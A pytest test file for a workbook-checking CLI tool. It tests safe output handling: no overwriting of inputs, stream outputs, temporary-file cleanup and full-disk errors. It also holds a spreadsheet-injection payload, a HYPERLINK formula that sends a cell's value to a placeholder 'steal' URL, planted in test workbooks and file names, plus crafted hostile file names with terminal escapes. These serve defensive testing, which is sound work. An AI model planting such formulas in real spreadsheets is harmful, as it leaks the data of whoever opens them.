"""Outputs that lose nothing (issue: strangers' workbooks), one test per rule.

- never written onto an input: compared as files, across the batch's whole input set (exit 2);
- a FIFO or a device is written as a stream; ``-o -`` is standard output;
- temporaries: removed on SIGTERM, and stale ones from a killed run removed by the next run;
- a full disk or an unwritable place: one clear message, exit 3;
- no output workbook holds a formula; control characters are shown, not crashed on;
- names that are not UTF-8 or hold a newline: escaped everywhere, JSON valid UTF-8, a row stays a row;
- links to devices, dangling links, loops and FIFOs in a folder get their own ERROR row; a link to a
  file already in the folder is that submission;
- 500 copies of one workbook give output linear in the count.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import signal
import stat
import subprocess
import sys
import textwrap
import threading
import time
import zipfile
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner

from conftest import CONSOLE_ENCODING, build_workbook
from hostile_names import NAME_CASES, build_names
from incubator_check.cli import main

FIXTURES = Path(__file__).parent.parent / "fixtures"
GOOD = FIXTURES / "standard-pass.xlsx"
POSIX = pytest.mark.skipif(os.name != "posix", reason="POSIX file types and names")
FORMULA = '=HYPERLINK("http://example.invalid/steal?x="&A1,"点击查看")'


def _cli(*args: str, timeout: float = 120, **kwargs) -> subprocess.CompletedProcess:
    """The installed command in a child process, as a user runs it."""
    program = "import sys; from incubator_check.cli import run; sys.argv[0] = 'incubator-check'; run()"
    return subprocess.run([sys.executable, "-c", program, *args], capture_output=True, timeout=timeout, **kwargs)


def _no_traceback(proc: subprocess.CompletedProcess) -> None:
    err = proc.stderr.decode(CONSOLE_ENCODING, "replace") if isinstance(proc.stderr, bytes) else proc.stderr
    assert "Traceback" not in err and "panicked" not in err and "memory allocation" not in err, err


def _formulas(path: Path) -> list[str]:
    """The sheets of a workbook that hold an <f> element (there must be none)."""
    with zipfile.ZipFile(path) as archive:
        return [m for m in archive.namelist()
                if m.startswith("xl/worksheets/") and re.search(rb"<f[ >/]", archive.read(m))]


# --- never onto an input ---------------------------------------------------------------------------------

@POSIX
def test_check_refuses_an_output_that_is_the_input_through_a_link(tmp_path):
    real = tmp_path / "real.xlsx"
    shutil.copyfile(GOOD, real)
    link = tmp_path / "link.xlsx"
    link.symlink_to(real)
    before = real.read_bytes()
    result = CliRunner().invoke(main, ["check", str(link), "-o", str(real), "--format", "xlsx"])
    assert result.exit_code == 2, result.output
    assert real.read_bytes() == before
    result = CliRunner().invoke(main, ["check", str(real), "-o", str(link)])
    assert result.exit_code == 2 and real.read_bytes() == before and link.is_symlink()


def test_check_refuses_the_input_itself_by_another_spelling(tmp_path):
    real = tmp_path / "real.xlsx"
    shutil.copyfile(GOOD, real)
    before = real.read_bytes()
    result = CliRunner().invoke(main, ["check", str(real), "-o", str(tmp_path / "." / "real.xlsx")])
    assert result.exit_code == 2 and real.read_bytes() == before


def test_batch_refuses_a_summary_onto_an_applicants_workbook(tmp_path):
    folder = tmp_path / "申报材料"
    (folder / "sub").mkdir(parents=True)
    for name in ("app1.xlsx", "app2.xlsx", "sub/app3.xlsx"):
        shutil.copyfile(GOOD, folder / name)
    before = {p: p.read_bytes() for p in folder.rglob("*.xlsx")}
    for target in ("app1.xlsx", "sub/app3.xlsx"):  # the whole input set, sub-folders included
        result = CliRunner().invoke(main, ["batch", str(folder), "--format", "xlsx", "-o", str(folder / target)])
        assert result.exit_code == 2, result.output
    assert {p: p.read_bytes() for p in folder.rglob("*.xlsx")} == before


# --- streams ---------------------------------------------------------------------------------------------

def test_dash_is_standard_output(tmp_path):
    proc = _cli("check", str(GOOD), "--format", "json", "-o", "-", cwd=tmp_path)
    assert proc.returncode == 0
    assert json.loads(proc.stdout)["verdict"] == "PASS"
    assert not (tmp_path / "-").exists()


@POSIX
def test_a_device_is_written_as_a_stream_not_replaced():
    proc = _cli("check", str(GOOD), "--format", "json", "-o", "/dev/null")
    assert proc.returncode == 0, proc.stderr
    assert stat.S_ISCHR(os.stat("/dev/null").st_mode)


@POSIX
def test_a_fifo_is_written_as_a_stream(tmp_path):
    fifo = tmp_path / "out.json"
    os.mkfifo(fifo)
    received = []
    reader = threading.Thread(target=lambda: received.append(fifo.read_bytes()))
    reader.start()
    proc = _cli("check", str(GOOD), "-o", str(fifo))
    reader.join(30)
    assert proc.returncode == 0, proc.stderr
    assert json.loads(received[0])["verdict"] == "PASS"  # the format came from the .json extension
    assert stat.S_ISFIFO(os.lstat(fifo).st_mode)


# --- temporaries -----------------------------------------------------------------------------------------

@POSIX
def test_a_stale_temporary_of_a_killed_run_is_removed_by_the_next(tmp_path):
    dead = subprocess.Popen([sys.executable, "-c", "pass"])
    dead.wait()
    stale = tmp_path / f".~out.json.{dead.pid}.0123456789ab.part"
    stale.write_bytes(b"half")
    other = tmp_path / ".~unrelated.json.1.0123456789ab.part"  # another output's: not ours to judge
    other.write_bytes(b"x")
    result = CliRunner().invoke(main, ["check", str(GOOD), "-o", str(tmp_path / "out.json")])
    assert result.exit_code == 0, (result.output, result.exception)
    assert sorted(os.listdir(tmp_path)) == sorted([".~unrelated.json.1.0123456789ab.part", "out.json"])


@POSIX
def test_sigterm_removes_the_temporary(tmp_path):
    script = textwrap.dedent(f"""
        import os, signal, sys, time
        from incubator_check import cli
        from incubator_check._files import atomic_path
        signal.signal(signal.SIGTERM, cli._on_sigterm)
        with atomic_path({str(tmp_path / 'summary.xlsx')!r}) as tmp:
            open(tmp, "wb").write(b"half written")
            print("ready", flush=True)
            # Short sleeps in a loop, not one long one: a signal that lands between the print and a single
            # sleep(60) is only acted on when that sleep ends (seen on CI with 3.13 under load).
            for _ in range(600):
                time.sleep(0.1)
    """)
    child = subprocess.Popen([sys.executable, "-c", script], stdout=subprocess.PIPE)
    assert child.stdout.readline().strip() == b"ready"
    assert [p for p in os.listdir(tmp_path) if p.endswith(".part")]
    child.send_signal(signal.SIGTERM)
    assert child.wait(30) == 128 + signal.SIGTERM
    assert os.listdir(tmp_path) == []


# --- cannot write ----------------------------------------------------------------------------------------

# A Windows Python under Wine finds Linux's /dev/full through the Z: drive, but it is no Windows device.
@pytest.mark.skipif(sys.platform == "win32" or not os.path.exists("/dev/full"), reason="needs /dev/full")
def test_a_full_disk_is_one_clear_message_and_exit_3():
    proc = _cli("check", str(GOOD), "--format", "json", "-o", "/dev/full")
    assert proc.returncode == 3
    err = proc.stderr.decode(CONSOLE_ENCODING)
    assert "无法写入" in err and "cannot write" in err
    _no_traceback(proc)


def test_an_unwritable_folder_is_exit_3(tmp_path):
    proc = _cli("check", str(GOOD), "-o", str(tmp_path / "missing" / "out.xlsx"))
    assert proc.returncode == 3
    _no_traceback(proc)


def test_a_full_temporary_folder_in_a_batch_is_exit_3(tmp_path, monkeypatch):
    from incubator_check import _batch

    def full(self, *args):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(_batch.Spool, "add", full)
    folder = tmp_path / "f"
    folder.mkdir()
    shutil.copyfile(GOOD, folder / "a.xlsx")
    result = CliRunner().invoke(main, ["batch", str(folder)])
    assert result.exit_code == 3
    assert "No space left" in result.output and "Traceback" not in result.output


# --- no formula, visible control characters --------------------------------------------------------------

def _applicant_with_formulas(path: Path) -> Path:
    built = build_workbook(path, n_tenants=3)
    book = openpyxl.load_workbook(path)
    profile, tenants = book.worksheets[0], book.worksheets[1]
    for sheet, cell in [(profile, built.profile_cell("incubator_name")), (profile, built.profile_cell("operator_name")),
                        (tenants, built.tenant_cell("name", 0)), (tenants, built.tenant_cell("name", 1))]:
        sheet[cell].value = FORMULA
        sheet[cell].data_type = "s"  # text in the applicant's file: a string that begins with =
    tenants[built.tenant_cell("name", 2)].value = "=="
    tenants[built.tenant_cell("name", 2)].data_type = "s"
    book.save(path)
    return path


# A file name that is a formula; Windows refuses '"' and ':' in a name, so there it is a formula without them.
FORMULA_NAME = '=HYPERLINK("http:x","y").xlsx' if os.name == "posix" else "=HYPERLINK(A1,B1).xlsx"


def test_no_output_workbook_holds_a_formula(tmp_path):
    folder = tmp_path / "申报材料"
    folder.mkdir()
    _applicant_with_formulas(folder / "a.xlsx")
    shutil.copyfile(folder / "a.xlsx", folder / FORMULA_NAME)
    shutil.copyfile(FIXTURES / "broken-not-a-workbook.xlsx", folder / "==.xlsx")
    report, summary, template = tmp_path / "report.xlsx", tmp_path / "summary.xlsx", tmp_path / "template.xlsx"
    assert CliRunner().invoke(main, ["check", str(folder / "a.xlsx"), "-o", str(report)]).exit_code in (0, 1)
    assert CliRunner().invoke(main, ["batch", str(folder), "-o", str(summary)]).exit_code == 1
    assert CliRunner().invoke(main, ["template", str(template)]).exit_code == 0
    for path in (report, summary, template):
        assert _formulas(path) == [], path
    texts = [c for ws in openpyxl.load_workbook(summary) for row in ws.iter_rows(values_only=True) for c in row]
    assert FORMULA in texts and FORMULA_NAME in texts and "==.xlsx" in texts
    book = openpyxl.load_workbook(report)
    assert any(c.value == FORMULA and c.data_type == "s" for ws in book for row in ws.iter_rows() for c in row)


@POSIX
def test_control_characters_in_a_name_are_shown_in_every_output(tmp_path):
    folder = tmp_path / "f"
    folder.mkdir()
    shutil.copyfile(GOOD, folder / "a\x01b\x1b[31m.xlsx")
    summary = tmp_path / "s.xlsx"
    result = CliRunner().invoke(main, ["batch", str(folder), "-o", str(summary)])
    assert result.exit_code == 0, result.output
    names = [r[1] for r in openpyxl.load_workbook(summary)["条款矩阵"].iter_rows(min_row=2, values_only=True)]
    assert names == ["a\\x01b\\x1b[31m.xlsx"]
    table = CliRunner().invoke(main, ["batch", str(folder)]).output
    assert "a\\x01b\\x1b[31m.xlsx" in table and "\x1b[31m" not in table


# --- crafted names and links (tests/hostile_names.py) ----------------------------------------------------

@pytest.fixture(scope="module")
def named(tmp_path_factory) -> tuple[Path, dict]:
    folder = tmp_path_factory.mktemp("names") / "申报 材料"
    return folder, build_names(folder, GOOD)


@pytest.fixture(scope="module")
def named_batch(named) -> tuple[list[dict], subprocess.CompletedProcess]:
    folder, _ = named
    proc = _cli("batch", os.fspath(folder), "--format", "json", "--jobs", "2")
    return [json.loads(line) for line in proc.stdout.decode("utf-8").splitlines()], proc


@POSIX
def test_a_batch_of_crafted_names_and_links_finishes_with_a_row_each(named, named_batch):
    folder, cases = named
    rows, proc = named_batch  # a hang is _cli's timeout
    assert proc.returncode == 1
    _no_traceback(proc)
    proc.stdout.decode("utf-8")  # valid UTF-8, whatever the names
    assert len(rows) == len(cases)
    by_shown = {r["source"]["path"]: r for r in rows}
    for case in cases.values():
        row = by_shown[case.shown]
        if case.code is None:
            assert row["verdict"] == "PASS", (case.shown, row.get("error"))
        else:
            assert row["verdict"] == "ERROR", case.shown
            assert row["error"]["code"] == case.code, (case.shown, row["error"])


@POSIX
@pytest.mark.parametrize("name", sorted(NAME_CASES))
def test_check_of_a_crafted_name_or_link(named, name):
    folder, cases = named
    if name not in cases:
        pytest.skip("cannot be made here")
    case = cases[name]
    proc = _cli("check", os.fspath(case.path), "--format", "json", timeout=60)  # a hang is the timeout
    _no_traceback(proc)
    if case.path_exists_for_click:
        report = json.loads(proc.stdout.decode("utf-8"))
        expected = "PASS" if case.code is None or case.code == "same-file" else "ERROR"
        assert report["verdict"] == expected
        assert proc.returncode == (0 if expected == "PASS" else 1)
    else:  # click refuses a path that does not exist (a dangling link, a loop): a usage error
        assert proc.returncode == 2


@POSIX
def test_a_name_with_a_newline_stays_one_table_row(named):
    folder, cases = named
    proc = _cli("batch", os.fspath(folder))
    text = proc.stdout.decode("utf-8")
    assert "two\\nlines.xlsx" in text
    assert not any(line.startswith("lines.xlsx") for line in text.splitlines())


@POSIX
def test_summary_workbook_of_crafted_names(named, tmp_path):
    folder, cases = named
    out = tmp_path / "汇总.xlsx"
    proc = _cli("batch", os.fspath(folder), "-o", os.fspath(out))
    assert proc.returncode == 1, proc.stderr
    _no_traceback(proc)
    files = [r[1] for r in openpyxl.load_workbook(out)["条款矩阵"].iter_rows(min_row=2, values_only=True)]
    assert len(files) == len(cases)
    assert "\\xff\\xfe-not-utf8.xlsx" in files


# --- 500 copies ------------------------------------------------------------------------------------------

def test_500_copies_of_one_workbook_give_output_linear_in_the_count(tmp_path):
    def jsonl_size(copies: int) -> int:
        folder = tmp_path / f"copies-{copies}"
        folder.mkdir()
        for i in range(copies):
            shutil.copyfile(GOOD, folder / f"copy-{i:03}.xlsx")
        out = tmp_path / f"out-{copies}.jsonl"
        result = CliRunner().invoke(main, ["batch", str(folder), "-o", str(out), "--jobs", "2"])
        assert result.exit_code == 0  # the same tenants in every copy: warnings, which do not keep a PASS from passing
        lines = out.read_text(encoding="utf-8").splitlines()
        assert len(lines) == copies
        # byte-identical copies: one finding each, "the same file N times", naming at most 10 of the others
        cross = [f for f in json.loads(lines[0])["findings"] if "others_count" in f]
        assert [f["code"] for f in cross] == ["identical-files"]
        assert len(cross[0]["others"]) <= 10 and cross[0]["others_count"] == copies - 1
        return out.stat().st_size

    small, large = jsonl_size(20), jsonl_size(500)
    per_report_small, per_report_large = small / 20, large / 500
    assert per_report_large < per_report_small * 1.2, (per_report_small, per_report_large)


# --- the console shows no tracebacks for nothing ----------------------------------------------------------

_TORN = """
import gc, io, sys
{install}
buffer = io.BytesIO(b"a torn message"); view = buffer.getbuffer(); cycle = [buffer, view]; cycle.append(cycle)
del buffer, view, cycle
gc.collect()
class Kept:
    def __del__(self):
        raise ValueError("kept")
Kept()
"""


def test_a_torn_worker_message_leaves_no_traceback_but_other_unraisables_are_still_shown():
    """A BytesIO closed by the collector with its buffer still exported (Python 3.13, after a worker killed while
    it wrote) is no crash: the command line keeps it off the console; any other unraisable exception is shown."""
    script = _TORN.format(install="from incubator_check import cli; cli._quiet_torn_message_noise()")
    err = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True).stderr
    assert "BufferError" not in err and "ValueError: kept" in err
